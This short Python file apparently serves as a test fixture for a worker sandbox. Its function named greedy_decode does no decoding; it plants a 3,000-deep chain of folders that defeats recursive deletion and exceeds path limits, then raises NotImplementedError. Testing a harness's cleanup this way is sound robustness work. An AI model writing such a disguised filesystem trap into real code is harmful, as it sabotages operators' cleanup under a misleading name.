# A 3,000-deep chain of folders in the worker's own folder, walked again at every call: a recursive
# rmtree fails on it (RecursionError), and its full path is longer than the kernel accepts. Made
# through folder descriptors, so the worker's current folder stays where it was.
import os as _os


def greedy_decode(params, cfg, prompt, n_new):
    fd = _os.open(".", _os.O_RDONLY)
    for _ in range(3000):
        try:
            _os.mkdir("d", dir_fd=fd)
        except FileExistsError:
            pass
        inner = _os.open("d", _os.O_RDONLY, dir_fd=fd)
        _os.close(fd)
        fd = inner
    _os.close(fd)
    raise NotImplementedError("greedy_decode (task greedy_decode)")
